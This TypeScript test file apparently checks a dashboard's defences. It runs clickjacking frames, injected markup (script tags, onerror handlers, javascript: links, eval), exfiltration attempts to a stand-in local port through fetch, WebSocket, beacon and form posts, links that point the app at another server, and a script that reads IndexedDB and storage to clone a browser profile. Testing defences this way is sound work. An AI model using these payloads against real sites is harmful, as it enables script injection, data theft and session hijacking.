/** The dashboard's own page: framed, injected into, sent elsewhere, copied. */
import { expect } from "vitest";
import { attack } from "./attack.ts";
import { cameThrough, inBrowser, lines, Surfing } from "./surfing.ts";

const surfing = new Surfing();

/** Runs in the dashboard's own page: what a piece of foreign markup would try there. */
const asForeignMarkup = `(async () => {
  const through = [];
  const note = (name) => through.push(name);
  globalThis.note = note;
  const wait = (element, name) => new Promise((done) => {
    element.onload = () => { note(name); done(); };
    element.onerror = done;
    document.body.append(element);
    setTimeout(done, 3000);
  });
  const inline = document.createElement("script");
  inline.textContent = "note('inline script')";
  document.body.append(inline);
  const holder = document.createElement("div");
  holder.innerHTML = "<img src=x onerror=\\"note('handler')\\"><a id=js href=\\"javascript:note('link')\\">x</a><p id=styled style=\\"color:red\\">x</p>";
  document.body.append(holder);
  document.getElementById("js").click();
  if (document.getElementById("styled").style.color === "red") note("style attribute");
  try { setTimeout("note('string timer')", 0); } catch {}
  // A turn later: what a debugger evaluates is itself free to evaluate.
  await new Promise((done) => setTimeout(done, 0));
  try { new Function("note('eval')")(); } catch {}
  const make = (tag, members) => Object.assign(document.createElement(tag), members);
  await wait(make("script", { src: "OPEN/x.js" }), "foreign script");
  await wait(make("img", { src: "OPEN/x.svg" }), "foreign image");
  await wait(make("link", { rel: "stylesheet", href: "OPEN/x.css" }), "foreign style");
  await fetch("OPEN/", { method: "POST", body: "x", mode: "no-cors" }).then(() => note("fetch out"), () => {});
  await new Promise((done) => {
    try {
      const socket = new WebSocket("OPEN/".replace("http", "ws"));
      socket.onopen = () => { note("socket out"); done(); };
      socket.onerror = done;
    } catch { done(); }
  });
  navigator.sendBeacon("OPEN/beacon", "x");
  document.head.append(make("base", { href: "OPEN/" }));
  if (document.baseURI.startsWith("OPEN")) note("base");
  const form = make("form", { action: "OPEN/form", method: "POST" });
  document.body.append(form);
  form.submit();
  const frame = make("iframe", { src: "OPEN/frame" });
  await wait(frame, "frame");
  if (frame.contentDocument !== null || through.at(-1) === "frame") through.pop();
  await new Promise((done) => setTimeout(done, 200));
  return through;
})()`;

attack(
  "A15",
  "clickjacking, and markup that got into the page",
  { expect: { act: "request.refused", code: "origin_not_allowed" }, ...inBrowser },
  async (bench) => {
    const { context, dashboard } = await surfing.paired(bench);
    const attacker = surfing.foreignAt("127.0.0.1");
    const page = await context.newPage();
    await page.goto(attacker);
    const show = (address: string): Promise<unknown> =>
      page.evaluate(`new Promise((done) => {
        const frame = document.createElement("iframe");
        frame.onload = done;
        frame.src = ${JSON.stringify(address)};
        document.body.append(frame);
      })`);
    const shown = (address: string): number =>
      page.frames().filter((frame) => frame.url() === address).length;
    await show(`${attacker}/again`);
    expect(shown(`${attacker}/again`)).toBe(1);
    let admitted = 0;
    const framed = ["/", "/pair", "/index.html"];
    for (const path of framed) {
      const refused = page.waitForEvent("console", (message) =>
        message.text().includes("frame-ancestors 'none'"),
      );
      await show(`${bench.url}${path}`);
      await refused;
      admitted += shown(`${bench.url}${path}`);
    }
    // The page's own parts are not to be borrowed either, to build a likeness of it.
    const at = `${bench.url}/pair`;
    expect(await cameThrough(context, attacker, [at], [])).toEqual([]);

    const before = surfing.seen.length;
    const address = `http://127.0.0.1:${surfing.openPort}`;
    const through = await lines(dashboard.page, asForeignMarkup.replaceAll("OPEN", address));
    expect(through).toEqual([]);
    expect(surfing.seen.slice(before)).toEqual([]);

    const policies = await Promise.all(
      ["/", "/pair", "/index.html", "/nothing", "/assets/none.js", "/healthz"].map(
        async (path) => (await bench.request(path)).headers,
      ),
    );
    for (const headers of policies) {
      expect(headers).toMatchObject({
        "x-frame-options": "DENY",
        "x-content-type-options": "nosniff",
        "referrer-policy": "no-referrer",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-resource-policy": "same-origin",
      });
      const policy = headers["content-security-policy"] ?? "";
      expect(policy).toMatch(/default-src 'none'.*frame-ancestors 'none'.*form-action 'none'/);
      expect(policy).not.toMatch(/unsafe|\*|https?:/);
    }
    return { tried: framed.length + 15, admitted: admitted + through.length };
  },
);

const names = "server url host ws gatewayUrl gateway origin api base endpoint remote connect";

attack(
  "A16",
  "links that name another server: in the query and in the fragment",
  { expect: { act: "request.refused", code: "credentials_in_url" }, ...inBrowser },
  async (bench) => {
    const { dashboard } = await surfing.paired(bench);
    const { page } = dashboard;
    const asked = new Set<string>();
    page.on("request", (request) => asked.add(new URL(request.url()).host));
    page.on("websocket", (socket) => asked.add(new URL(socket.url()).host));
    const before = surfing.seen.length;
    const there = `127.0.0.1:${surfing.openPort}`;
    const values = [`ws://${there}/`, `http://${there}`, there];
    const query = names
      .split(" ")
      .flatMap((name) => values.map((value) => `${name}=${encodeURIComponent(value)}`))
      .join("&");
    for (const link of [`/?${query}`, `/#${query}`, `/#/?${query}`]) {
      await page.goto("about:blank");
      await page.goto(`${bench.url}${link}`);
      await dashboard.connected();
    }
    await page.goto(`${bench.url}/pair?${query}#wrong`);
    await page.getByRole("button", { name: "Pair", exact: true }).waitFor();
    const taken = await page.goto(`${bench.url}/?farhelm_server=${there}&token=x`);
    expect(taken?.status()).toBe(400);
    expect([...asked]).toEqual([new URL(bench.url).host]);
    expect(surfing.seen.slice(before)).toEqual([]);
    return { tried: 5, admitted: surfing.seen.length - before, names: names.split(" ").length };
  },
);

/** Everything of this origin that a page's script can read, with each try to get at the value of a key. Runs in a page. */
const readProfile = `(async () => {
  const request = indexedDB.open("farhelm", 1);
  await new Promise((done) => { request.onsuccess = done; });
  const got = request.result.transaction("device").objectStore("device").get("this-device");
  await new Promise((done) => { got.onsuccess = done; });
  const exported = [];
  for (const format of ["jwk", "pkcs8", "raw", "spki"])
    await crypto.subtle.exportKey(format, got.result.privateKey).then(() => exported.push(format), () => {});
  const { privateKey, ...rest } = got.result;
  return [JSON.stringify(rest), JSON.stringify({ ...localStorage, ...sessionStorage }), JSON.stringify(privateKey), ...exported];
})()`;

/** Puts what was read into another browser, with a key of the thief's own. Runs in a page. */
const writeProfile = (record: string, local: string): string => `(async () => {
  for (const [name, value] of Object.entries(${local})) localStorage.setItem(name, value);
  const request = indexedDB.open("farhelm", 1);
  request.onupgradeneeded = () => request.result.createObjectStore("device");
  await new Promise((done) => { request.onsuccess = done; });
  const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, false, ["sign"]);
  const put = request.result.transaction("device", "readwrite").objectStore("device").put({ ...${record}, privateKey: pair.privateKey }, "this-device");
  await new Promise((done) => { put.onsuccess = done; });
  return [];
})()`;

attack(
  "T5",
  "a cloned browser profile without the key that cannot be exported",
  { expect: { act: "token.renew", code: "proof_refused" }, ...inBrowser },
  async (bench) => {
    const { context, dashboard } = await surfing.paired(bench);
    const [record = "", local = "", key, ...exported] = await lines(dashboard.page, readProfile);
    expect([key, exported]).toEqual(["{}", []]);
    const state = await context.storageState();
    let admitted = 0;
    for (const withRecord of [false, true]) {
      const clone = await surfing.browser.newContext({ storageState: state });
      const page = await clone.newPage();
      const opened: string[] = [];
      page.on("websocket", (socket) => opened.push(socket.url()));
      await page.goto(`${bench.url}/healthz`);
      if (withRecord) await lines(page, writeProfile(record, local));
      await page.goto(bench.url);
      await page.getByRole("heading", { name: /signed out|Pair this browser/ }).waitFor();
      admitted += opened.length;
    }
    return { tried: 2, admitted, readable: "id, name of the key, public key" };
  },
);
